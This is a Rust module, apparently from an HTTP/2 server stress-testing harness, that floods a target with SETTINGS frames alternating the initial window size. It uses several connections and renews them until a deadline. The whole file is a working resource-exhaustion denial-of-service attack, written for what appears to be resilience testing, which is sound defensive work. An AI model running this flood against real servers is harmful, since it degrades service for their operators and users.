use crate::crowd::{PATIENCE, crowd, flood, renew};
use crate::frames::{self, INITIAL_WINDOW_SIZE};
use crate::round::{Kind, Round};

const CONNECTIONS: usize = 4;
const BYTES_MAX: usize = 64 << 20;

/// SETTINGS as fast as the server takes them. Each must be acknowledged, and may change the windows
/// of all streams.
pub(super) fn run(round: &mut Round) -> Result<(), String> {
    let mut endpoint = round.endpoint(Kind::Memory)?;
    let address = endpoint.requests.address;
    let one = |window| frames::settings(&[(INITIAL_WINDOW_SIZE, window)]);
    let settings = [one(1), one(60_000)].concat().repeat(500);
    let mut sent = 0;
    round.attack_endpoint(&mut endpoint, |until| {
        let floods = crowd(CONNECTIONS, |index| {
            renew(until, || {
                let connection = frames::open(address, &[], PATIENCE)?;
                flood(connection, index % 2 == 0, BYTES_MAX, until, || settings.clone())
            })
        });
        sent = floods.into_iter().sum();
        Ok(())
    })?;
    round.note(format!("{} SETTINGS", sent / one(1).len()));
    Ok(())
}
